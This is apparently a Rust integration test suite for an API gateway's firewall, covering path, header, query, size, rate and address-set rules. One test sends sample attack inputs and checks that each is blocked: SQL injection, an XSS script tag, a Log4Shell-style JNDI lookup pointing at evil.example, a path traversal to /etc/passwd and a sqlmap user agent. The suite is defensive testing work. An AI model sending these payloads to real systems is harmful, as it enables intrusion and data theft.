//! The firewall (POL-04): every kind of match, what counts, rates, managed rules, and whose rules come first. The order of its words and
//! the type of its refusal are assumed (rows of aws-features §11).
#![allow(clippy::float_cmp, reason = "counters are whole numbers")]

#[path = "support/http2.rs"]
mod http2;
mod support;

use std::process::Command;

use support::{Client, Driver, Gateway, Response, Stage, Theatre, on_both_drivers, shown};

/// A REST API and an HTTP API with one rule for each kind of match, behind the rules of the gateway.
static HOUSE: Theatre = Theatre::new(
    r#"
gateway:
  listen: [{address: "127.0.0.1:0", h2c: true}]
  trusted_proxies: [127.0.0.1]
  access_log: access.log
  firewall:
    sets:
      bad: {addresses: [192.0.2.0/24, "2001:db8:bad::/48"]}
    rules:
      - {name: bad, when: {address: bad}, then: block}
      - {name: whole-path, when: {path: {prefix: /dev/hidden}}, then: block}
      - {name: everything, then: count}
apis:
  pets:
    kind: rest
    firewall: &firewall
      sets:
        office: {addresses: [198.51.100.0/24, "2001:db8:1::/48"]}
      rules:
        - {name: office, when: {address: office}, then: allow}
        - {name: seen, when: {path: {prefix: /}}, then: count}
        - {name: verbs, when: {method: [DELETE, TRACE]}, then: block}
        - {name: exact, when: {path: {equals: [/exact, /same]}}, then: block}
        - {name: prefix, when: {path: {prefix: /Admin, transform: [url_decode, normalize_path]}}, then: block}
        - {name: suffix, when: {path: {suffix: .bak}}, then: block}
        - {name: contains, when: {path: {contains: [secret, "%41"], transform: [lowercase]}}, then: block}
        - {name: regex, when: {path: {regex: "^/[0-9]{4,}$"}}, then: block}
        - {name: agent, when: {header: {name: user-agent, contains: badbot, transform: lowercase}}, then: block}
        - {name: no-agent, when: {path: {prefix: /agents}, header: {name: User-Agent, present: false}}, then: block}
        - {name: parameter, when: {query: {name: debug, equals: ["1", "true"]}}, then: block}
        - {name: whole-query, when: {query: {contains: "a=b&c=d e"}}, then: block}
        - {name: sizes, when: {larger: {path: 100, query: 200, headers: 4KB}}, then: block}
        - {name: body, when: {method: POST, larger: {body: 10}}, then: block}
        - name: groups
          when: {path: {prefix: /groups}, any: [{query: {name: a, present: true}}, {all: [{method: PUT}, {not: {header: {name: X-Ok, equals: "yes"}}}]}]}
          then: block
        - {name: attacks, when: {managed: [sqli, xss, bad_inputs, path_traversal, scanners], not: {path: {prefix: /raw}}}, then: block}
    gateway_responses:
      WAF_FILTERED:
        parameters: {gatewayresponse.header.X-Waf: context.wafResponseCode}
    routes: &routes
      "ANY /{proxy+}": {integration: {type: mock, body: "{}"}}
    stages: {dev: {}}
  web:
    kind: http
    cors: {allow_origins: ["https://app.example"], allow_methods: [GET]}
    firewall: *firewall
    routes: *routes
    stages: {$default: {}}
  closed:
    kind: rest
    firewall:
      default: block
      rules: [{name: health, when: {path: {equals: /health}}, then: allow}]
    routes: *routes
    stages: {dev: {}}
domains:
  pets.test: {mappings: {/: pets/dev, /dev: pets/dev}}
  web.test: {mappings: {/: web/$default}}
  closed.test: {mappings: {/: closed/dev}}
"#,
);

fn ask(stage: &Stage, host: &str, line: &str, fields: &str) -> Response {
    stage.client().exchange(format!("{line} HTTP/1.1\r\nHost: {host}\r\n{fields}\r\n"))
}

#[track_caller]
fn is_filtered(response: &Response, rest: bool) {
    let whole = shown(&response.raw);
    assert_eq!(response.status, 403, "{whole}");
    assert_eq!(response.text(), "{\"message\":\"Forbidden\"}", "{whole}");
    assert_eq!(response.header("x-amzn-ErrorType"), rest.then_some("ForbiddenException"), "{whole}");
}

fn counted(stage: &Stage, api: &str, rule: &str) -> f64 {
    stage.counter("tollgate_firewall_rules_total", &[("api", api), ("rule", rule)])
}

/// Whether requests are blocked, by which rule, in both kinds of API.
fn judged(stage: &Stage, cases: &[(&str, &str, &str)]) {
    for (rule, line, fields) in cases {
        for (host, api) in [("pets.test", "pets"), ("web.test", "web")] {
            let (before, refusals) = (counted(stage, api, rule), stage.refusals());
            let response = ask(stage, host, line, fields);
            if rule.is_empty() {
                assert_eq!(response.status, 200, "{line} {fields}: {}", shown(&response.raw));
            } else {
                is_filtered(&response, api == "pets");
                stage.one_refusal_more(&refusals, "filtered");
                assert_eq!(counted(stage, api, rule), before + 1.0, "{line} {fields}: not by {rule}");
            }
        }
    }
}

#[test]
fn pol_04_paths_verbs_and_sizes() {
    let long = format!("GET /{}", "x".repeat(101));
    let query = format!("GET /a?q={}", "x".repeat(201));
    let fields = format!("X-A: {0}\r\nX-B: {0}\r\n", "x".repeat(2_100));
    HOUSE.play(|stage| {
        judged(
            stage,
            &[
                ("", "GET /a", ""),
                ("verbs", "DELETE /a", ""),
                ("exact", "GET /exact", ""),
                ("exact", "GET /s%61me", ""),
                ("", "GET /exact/not", ""),
                ("prefix", "GET /Admin/users", ""),
                ("prefix", "GET /%41dmin", ""),
                ("prefix", "GET /%2fAdmin", ""),
                ("", "GET /admin", ""),
                ("suffix", "GET /db.bak", ""),
                ("contains", "GET /a/SECRET/b", ""),
                ("contains", "GET /a%41", ""),
                ("regex", "GET /12345", ""),
                ("", "GET /123", ""),
                ("sizes", &long, ""),
                ("sizes", &query, ""),
                ("sizes", "GET /a", &fields),
            ],
        );
        judged(
            stage,
            &[
                ("", "POST /a", "Content-Length: 10\r\n\r\n0123456789"),
                ("body", "POST /a", "Content-Length: 11\r\nConnection: close\r\n"),
                // Its end is not said ahead.
                ("body", "POST /a", "Transfer-Encoding: chunked\r\nConnection: close\r\n"),
            ],
        );
    });
}

#[test]
fn pol_04_fields_parameters_and_groups() {
    HOUSE.play(|stage| {
        judged(
            stage,
            &[
                ("agent", "GET /a", "User-Agent: Mozilla BadBot/1\r\n"),
                ("agent", "GET /a", "User-Agent: good\r\nUSER-AGENT: badbot\r\n"),
                ("", "GET /a", "X-Agent: badbot\r\n"),
                ("no-agent", "GET /agents", ""),
                ("no-agent", "GET /agents", "Connection: user-agent\r\nUser-Agent: x\r\n"),
                ("", "GET /agents", "User-Agent: x\r\n"),
                ("parameter", "GET /a?x=y&debug=true", ""),
                ("parameter", "GET /a?%64ebug=%31", ""),
                ("parameter", "GET /a?debug=1&debug=0", ""),
                ("", "GET /a?debug=10&DEBUG=1", ""),
                ("whole-query", "GET /a?x&a=b&c=d+e", ""),
                ("", "GET /a?a=b", ""),
                ("groups", "GET /groups?a", ""),
                ("groups", "PUT /groups", ""),
                ("", "PUT /groups", "X-Ok: yes\r\n"),
                ("", "GET /groups", ""),
            ],
        );
    });
}

#[test]
fn pol_04_managed_rules_know_attacks_by_name() {
    HOUSE.play(|stage| {
        judged(
            stage,
            &[
                ("attacks", "GET /a?id=1'%20or%20'1'='1", ""),
                ("attacks", "GET /a?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
                ("attacks", "GET /a", "X-Any: ${jndi:ldap://evil.example/a}\r\n"),
                ("attacks", "GET /a?file=..%2f..%2fetc%2fpasswd", ""),
                ("attacks", "GET /a", "User-Agent: sqlmap/1.7\r\n"),
                ("", "GET /raw?id=1'%20or%20'1'='1", ""),
                ("", "GET /a?q=rock+and+roll+or+O'Neill", ""),
            ],
        );
    });
}

#[test]
fn pol_04_addresses_of_both_families_and_the_rules_of_the_gateway_first() {
    HOUSE.play(|stage| {
        let from =
            |address: &str, line: &str| ask(stage, "pets.test", line, &format!("X-Forwarded-For: {address}\r\n"));
        for (address, line, status) in [
            ("192.0.2.255", "GET /a", 403),
            ("192.0.3.0", "GET /a", 200),
            ("2001:db8:bad:1::1", "GET /a", 403),
            ("2001:db8:bae::1", "GET /a", 200),
            // The office may do all that the API's rules forbid, and nothing that the gateway's do.
            ("198.51.100.7", "DELETE /exact?debug=1", 200),
            ("2001:db8:1::7", "DELETE /exact", 200),
            ("198.51.100.7", "GET /dev/hidden", 403),
            // An API's rules see what is below its base path.
            ("203.0.113.7", "GET /dev/exact", 403),
        ] {
            assert_eq!(from(address, line).status, status, "{address} {line}");
        }
        let (before, refused) = (counted(stage, "", "everything"), counted(stage, "pets", "seen"));
        from("203.0.113.7", "GET /a").expect_status(200);
        from("192.0.2.1", "GET /a").expect_status(403);
        assert_eq!(counted(stage, "", "everything"), before + 1.0, "what is blocked before is not counted");
        assert_eq!(counted(stage, "pets", "seen"), refused + 1.0);
    });
}

#[test]
fn pol_04_it_comes_before_all_else_of_a_stage_and_its_words_can_be_chosen() {
    HOUSE.play(|stage| {
        let refused = ask(stage, "pets.test", "GET /exact", "");
        assert_eq!(refused.header("X-Waf"), Some("WAF_BLOCK"));
        let preflight = "Origin: https://app.example\r\nAccess-Control-Request-Method: GET\r\n";
        let refused = ask(stage, "web.test", "OPTIONS /exact", preflight);
        is_filtered(&refused, false);
        assert_eq!(refused.header("access-control-allow-origin"), Some("https://app.example"), "the page may read it");
        ask(stage, "web.test", "OPTIONS /a", preflight).expect_status(204);
        // No method fits, which nobody is told before the firewall.
        is_filtered(&ask(stage, "closed.test", "GET /", ""), true);
        is_filtered(&ask(stage, "closed.test", "GET /a", ""), true);
        ask(stage, "closed.test", "GET /health", "").expect_status(200);
        assert!(counted(stage, "closed", "default") >= 2.0);
        let mut client = stage.client();
        for _ in 0..2 {
            client.exchange("GET /exact HTTP/1.1\r\nHost: pets.test\r\n\r\n").expect_status(403);
        }
        client.exchange("GET /a HTTP/1.1\r\nHost: pets.test\r\n\r\n").expect_status(200);
        support::eventually("the log says so", || {
            let log = stage.gateway.access_log();
            log.contains(r#""wafResponseCode":"WAF_BLOCK","wafRule":"exact","errorType":"filtered""#)
                && log.contains(r#""wafResponseCode":"WAF_ALLOW"}"#)
                && log.contains(r#""wafResponseCode":"WAF_ALLOW","wafRule":"health"}"#)
        });
    });
}

#[test]
fn pol_04_streams_of_http2_pass_the_same_rules() {
    HOUSE.play(|stage| {
        let address = stage.gateway.address().to_owned();
        http2::run(async move {
            let client = http2::Client::connect(&address).await;
            let ask = async |path: &str, field: (&str, &str)| {
                let mut request = client.request("GET", path);
                *request.uri_mut() = format!("http://pets.test{path}").parse().expect("an address");
                let name: http::HeaderName = field.0.parse().expect("a name");
                request.headers_mut().insert(name, field.1.parse().expect("a value"));
                client.ask(request, None).await.expect("an answer")
            };
            let refused = ask("/exact", ("x-a", "1")).await;
            assert_eq!((refused.status, refused.text().as_str()), (403, "{\"message\":\"Forbidden\"}"));
            assert_eq!(ask("/a", ("user-agent", "badbot")).await.status, 403);
            assert_eq!(ask("/a?id=1'or'1'='1", ("x-a", "1")).await.status, 403);
            assert_eq!(ask("/a", ("user-agent", "curl")).await.status, 200);
        });
    });
}

/// Two rules with rates: one of those who post, one of all; and what else is said of the API.
fn rated(limit: u32, more: &str) -> String {
    format!(
        r#"
gateway:
  workers: 2
  trusted_proxies: [127.0.0.1]
apis:
  a:
    kind: http
    firewall:
      rules:
        - {{name: posts, when: {{method: POST}}, rate: {{limit: 2, window: 24h}}, then: block}}
        - {{name: watched, rate: {{limit: 1, window: 24h}}, then: count}}
        - {{name: flood, rate: {{limit: {limit}, window: 24h}}, then: block}}
        {more}
    routes:
      "ANY /a": {{integration: {{type: mock}}}}
    stages: {{$default: {{}}}}
"#
    )
}

fn passes(clients: &mut [Client], verb: &str, ip: &str, of: usize) -> usize {
    let request = format!("{verb} /a HTTP/1.1\r\nHost: h\r\nX-Forwarded-For: {ip}\r\nContent-Length: 0\r\n\r\n");
    let count = clients.len();
    let statuses = (0..of).map(|at| clients[at % count].exchange(&request).status);
    statuses
        .map(|status| {
            assert!(status == 200 || status == 403, "{status}");
            usize::from(status == 200)
        })
        .sum()
}

#[test]
fn pol_04_a_rate_is_of_each_address_and_a_reload_keeps_what_was_spent() {
    on_both_drivers(|driver: Driver| {
        let gateway = Gateway::start(&rated(5, ""), driver);
        let mut clients: Vec<Client> = (0..4).map(|_| gateway.client()).collect();
        let clients = &mut clients[..];
        assert_eq!(passes(clients, "POST", "203.0.113.1", 4), 2, "those who post");
        assert_eq!(passes(clients, "GET", "203.0.113.1", 6), 3, "of five, two posts have passed");
        assert_eq!(passes(clients, "GET", "203.0.113.2", 8), 5, "of another address");
        assert_eq!(passes(clients, "GET", "2001:db8::1", 3), 3);
        assert_eq!(passes(clients, "GET", "2001:db8::ffff", 5), 2, "one network of 64 bits is one customer");
        let counted = |rule: &str| gateway.counter("tollgate_firewall_rules_total", &[("api", "a"), ("rule", rule)]);
        // Of 2 + 6, 8 and 8 requests that came so far, one of each address was not too fast.
        assert_eq!((counted("posts"), counted("watched"), counted("flood")), (2.0, 21.0, 9.0));
        gateway.reload(&rated(5, "- {name: more, when: {path: {equals: /more}}, then: block}"));
        assert_eq!(passes(clients, "GET", "203.0.113.2", 3), 0, "the rule of that name knows");
        let report = gateway.reload(&rated(7, ""));
        assert!(report["changes"].to_string().contains("api a: the firewall changed"), "{report}");
        assert_eq!(passes(clients, "GET", "203.0.113.2", 5), 2, "five of seven are spent");
        assert_eq!(counted("flood"), 15.0, "counters of a name go on");
        let without = rated(7, "").replace("then: block", "then: count");
        gateway.reload(&without);
        assert_eq!(passes(clients, "GET", "203.0.113.2", 10), 10, "what only counts lets all pass");
    });
}

#[test]
fn pol_04_sets_come_from_files_and_a_compiled_file_has_them() {
    let document = r#"
gateway:
  trusted_proxies: [127.0.0.1]
  firewall:
    sets: {listed: {file: listed.txt, addresses: ["2001:db8::/32"]}}
    rules: [{name: listed, when: {address: listed}, then: block}]
apis:
  a: {kind: http, routes: {"ANY /a": {integration: {type: mock}}}, stages: {$default: {}}}
"#;
    on_both_drivers(|driver| {
        let folder = support::gateway::new_folder();
        let lines = (0..20_000).map(|at| format!("10.{}.{}.{} # {at}\n", at / 250, at % 250, at % 7));
        let list = lines.collect::<Vec<_>>().concat();
        std::fs::write(folder.join("listed.txt"), format!("# ours\n\n{list}192.0.2.0/24")).unwrap();
        let gateway = Gateway::start_in(folder, document, driver, &[]).unwrap_or_else(|_| panic!("it starts"));
        let mut client = [gateway.client()];
        for (ip, passed) in [
            ("10.0.0.0", 0),
            ("10.79.249.0", 0),
            ("10.0.0.1", 1),
            ("192.0.2.9", 0),
            ("2001:db8::1", 0),
            ("203.0.113.1", 1),
        ] {
            assert_eq!(passes(&mut client, "GET", ip, 1), passed, "{ip}");
        }
        let file = gateway.folder().join("gateway.snapshot");
        let compiled = Command::new(env!("CARGO_BIN_EXE_tollgate"))
            .args([
                "compile".as_ref(),
                gateway.folder().join("gateway.yaml").as_os_str(),
                "-o".as_ref(),
                file.as_os_str(),
            ])
            .output()
            .unwrap();
        assert!(compiled.status.success(), "{compiled:?}");
        // The list is a part of the configuration: a reload takes over what it says now.
        std::fs::write(gateway.folder().join("listed.txt"), "203.0.113.1\n").unwrap();
        gateway.reload(document);
        assert_eq!((passes(&mut client, "GET", "203.0.113.1", 1), passes(&mut client, "GET", "192.0.2.9", 1)), (0, 1));
        let folder = support::gateway::new_folder();
        let other = folder.join("gateway.snapshot");
        std::fs::copy(file, &other).unwrap();
        drop((gateway, client));
        let gateway = Gateway::start_file(folder, &other, driver, &[]).unwrap_or_else(|_| panic!("it starts"));
        let mut client = [gateway.client()];
        assert_eq!((passes(&mut client, "GET", "203.0.113.1", 1), passes(&mut client, "GET", "192.0.2.9", 1)), (1, 0));
    });
}
